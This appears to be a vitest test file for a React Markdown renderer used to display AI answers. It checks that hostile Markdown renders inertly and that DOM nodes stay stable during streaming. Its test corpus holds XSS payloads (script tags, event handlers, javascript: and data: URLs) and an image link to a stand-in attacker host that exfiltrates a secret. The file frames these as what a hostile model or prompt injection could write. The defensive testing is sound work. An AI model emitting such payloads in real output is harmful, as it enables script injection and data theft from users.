import { describe, expect, it } from 'vitest';
import { Markdown } from '../../src/components/index.js';
import { useReactRoot, waitFor } from '../support/react-root.js';

const react = useReactRoot();

/** Markdown a hostile model (or a prompt injection) could write. */
const corpus = [
  '<script>window.__xss = "script"</script>',
  '<img src="https://evil.example/x.png" onerror="window.__xss = \'img\'">',
  '<svg onload="window.__xss = \'svg\'"><circle r="1"/></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<details open ontoggle="window.__xss = \'details\'">x</details>',
  '<style>body { background: url(https://evil.example/style.png) }</style>',
  '<a href="javascript:window.__xss = \'a\'">html link</a>',
  '[md link](javascript:window.__xss="md")',
  '[upper](JAVASCRIPT:window.__xss="upper")',
  '[tab](java\tscript:window.__xss="tab")',
  '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '<javascript:window.__xss="autolink">',
  '[ref][evil]\n\n[evil]: javascript:window.__xss="ref"',
  '[title](https://ok.example "onmouseover=window.__xss=1")',
  '![exfiltrate](https://evil.example/steal?secret=42)',
  '![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '`<script>window.__xss = "code"</script>`',
  '```html\n<script>window.__xss = "fence"</script>\n```',
  '&lt;script&gt;window.__xss = "entity"&lt;/script&gt;',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<form action="https://evil.example/post"><button>go</button></form>',
].join('\n\n');

declare global {
  interface Window {
    __xss?: unknown;
  }
}

describe('Markdown with hostile input', () => {
  it('should run no script, render no HTML, keep only safe links, and send no request', async () => {
    const requests: string[] = [];
    const observer = new PerformanceObserver((list) => requests.push(...list.getEntries().map((entry) => entry.name)));
    observer.observe({ type: 'resource' });
    react.mount(<Markdown text={corpus} />);
    // Let highlighting, image loads and event handlers (if any had survived) run.
    await new Promise((resolve) => setTimeout(resolve, 500));
    observer.disconnect();
    const root = react.container;
    expect(window.__xss).toBeUndefined();
    expect(root.querySelectorAll('script, iframe, img, svg, style, object, embed, form, details')).toHaveLength(0);
    expect([...root.querySelectorAll('*')].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on')))).toEqual([]);
    const hrefs = [...root.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    expect(hrefs).toEqual(['https://ok.example/']);
    for (const link of root.querySelectorAll('a')) expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(requests.filter((url) => url.includes('evil.example') || url.startsWith('data:'))).toEqual([]);
    // The HTML is still there for the reader, as text.
    expect(root.textContent).toContain('<script>window.__xss = "script"</script>');
    // An image loads only when the user asks for it, and only over http(s).
    const placeholders = [...root.querySelectorAll<HTMLButtonElement>('.hayloft-image-placeholder')];
    expect(placeholders.map((button) => button.textContent)).toEqual(['Load image “exfiltrate” from evil.example']);
    placeholders[0]!.click();
    await waitFor(() => expect(root.querySelector('img')?.getAttribute('src')).toBe('https://evil.example/steal?secret=42'));
    expect(root.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('should change only the DOM of the block being written as an answer grows', async () => {
    const text = '# Title\n\nFirst paragraph.\n\n- a\n- b\n\nLast';
    react.mount(<Markdown text={text} />);
    const last = react.container.querySelectorAll('p').item(1);
    const changed: Node[] = [];
    const observer = new MutationObserver((records) => changed.push(...records.map((record) => record.target)));
    observer.observe(react.container, { subtree: true, childList: true, characterData: true });
    react.mount(<Markdown text={`${text} paragraph grows`} />);
    await Promise.resolve();
    observer.disconnect();
    expect(changed.length).toBeGreaterThan(0);
    for (const node of changed) expect(last.contains(node)).toBe(true);
    expect(last.textContent).toBe('Last paragraph grows');
  });

  it('should keep every finished block as the same DOM node through a long answer, directly under its container', async () => {
    const paragraphs = (count: number) => Array.from({ length: count }, (_, i) => `Paragraph ${i}.`).join('\n\n');
    react.mount(<Markdown text={paragraphs(30)} />);
    const before = [...react.container.querySelectorAll('p')];
    expect(before).toHaveLength(30);
    for (const count of [33, 64, 65, 100]) react.mount(<Markdown text={paragraphs(count)} />);
    await Promise.resolve();
    const after = [...react.container.querySelectorAll(':scope > p')];
    expect(after.map((node) => node.textContent)).toEqual(Array.from({ length: 100 }, (_, i) => `Paragraph ${i}.`));
    // The paragraphs written before (the last one still growing then) were never mounted again.
    for (const [index, node] of before.entries()) expect(after[index]).toBe(node);
  });
});
